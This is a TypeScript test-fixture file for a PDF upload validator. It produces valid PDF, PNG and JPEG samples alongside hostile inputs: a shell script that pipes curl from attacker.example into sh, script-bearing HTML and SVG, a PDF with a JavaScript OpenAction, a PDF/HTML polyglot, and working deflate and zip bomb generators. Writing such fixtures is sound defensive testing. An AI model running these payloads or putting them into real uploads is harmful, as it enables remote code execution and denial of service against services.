import { deflateRawSync, deflateSync } from 'node:zlib';
import { PDFDocument, PDFName, PDFString, StandardFonts } from 'pdf-lib';

/** A real one-page PDF (pdf-lib), as a scanned or filled form would be. */
export async function pdfBytes(text = 'Monthly Fieldwork Verification Form'): Promise<Buffer> {
  const pdf = await PDFDocument.create();
  const page = pdf.addPage([595, 842]);
  page.drawText(text, {
    x: 50,
    y: 780,
    size: 14,
    font: await pdf.embedFont(StandardFonts.Helvetica),
  });
  return Buffer.from(await pdf.save());
}

/** A valid 1×1 PNG. */
export const PNG_BYTES = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);

/** A valid 1×1 JPEG. */
export const JPEG_BYTES = Buffer.from(
  '/9j/4AAQSkZJRgABAQEASABIAAD/2wBDAP//////////////////////////////////////////////////////////////////////////////////////wgALCAABAAEBAREA/8QAFBABAAAAAAAAAAAAAAAAAAAAAP/aAAgBAQABPxA=',
  'base64',
);

/** A shell script: what a `.pdf` name must not smuggle in. */
export const SCRIPT_BYTES = Buffer.from('#!/bin/sh\ncurl https://attacker.example | sh\n');

/** An HTML page with script. */
export const HTML_BYTES = Buffer.from(
  '<!doctype html><html><script>alert(document.cookie)</script>',
);

/** An SVG that runs script when opened. */
export const SVG_BYTES = Buffer.from(
  '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
);

/** A GIF: a real image, but not one of the kinds accepted. */
export const GIF_BYTES = Buffer.from(
  'R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==',
  'base64',
);

/** `size` bytes that start as a PDF: an oversize upload that passes the content check. */
export function pdfOfSize(size: number): Buffer {
  const bytes = Buffer.alloc(size, 0x20);
  Buffer.from('%PDF-1.7\n').copy(bytes);
  return bytes;
}

/**
 * A PDF whose one object stream inflates to `expandedBytes` of spaces (a deflate bomb: about a
 * thousandth of that on the wire), the way a PDF parser that decodes object streams meets it.
 */
export function deflateBombPdf(expandedBytes: number): Buffer {
  // One object, then spaces: a stream pdf-lib reads whole and parses without complaint.
  const objects = Buffer.alloc(expandedBytes, 0x20);
  Buffer.from('3 0 << /A 1 >>').copy(objects);
  const data = deflateSync(objects, { level: 9 });
  return Buffer.concat([
    Buffer.from(
      `%PDF-1.7\n1 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${data.length} >>\nstream\n`,
    ),
    data,
    Buffer.from(
      '\nendstream\nendobj\n2 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 2 0 R >>\n%%EOF\n',
    ),
  ]);
}

/** A zip holding one deflated file of `expandedBytes` zeros (a zip bomb, renamed .pdf). */
export function zipBomb(expandedBytes: number): Buffer {
  const data = deflateRawSync(Buffer.alloc(expandedBytes), { level: 9 });
  const name = Buffer.from('form.pdf');
  const header = Buffer.alloc(30);
  header.writeUInt32LE(0x04034b50, 0);
  header.writeUInt16LE(20, 4);
  header.writeUInt16LE(8, 8);
  header.writeUInt32LE(data.length, 18);
  header.writeUInt32LE(expandedBytes, 22);
  header.writeUInt16LE(name.length, 26);
  return Buffer.concat([header, name, data]);
}

/** A real PDF that runs JavaScript when opened (an OpenAction). */
export async function pdfWithJavaScript(): Promise<Buffer> {
  const pdf = await PDFDocument.create();
  pdf.addPage([595, 842]);
  const action = pdf.context.obj({
    Type: 'Action',
    S: 'JavaScript',
    JS: PDFString.of('app.alert(1)'),
  });
  pdf.catalog.set(PDFName.of('OpenAction'), pdf.context.register(action));
  return Buffer.from(await pdf.save());
}

/** A file that is a PDF by its first bytes and an HTML page with script to a sniffing browser. */
export async function pdfHtmlPolyglot(): Promise<Buffer> {
  return Buffer.concat([
    await pdfBytes(),
    Buffer.from('\n<html><body><script>alert(document.domain)</script></body></html>\n'),
  ]);
}
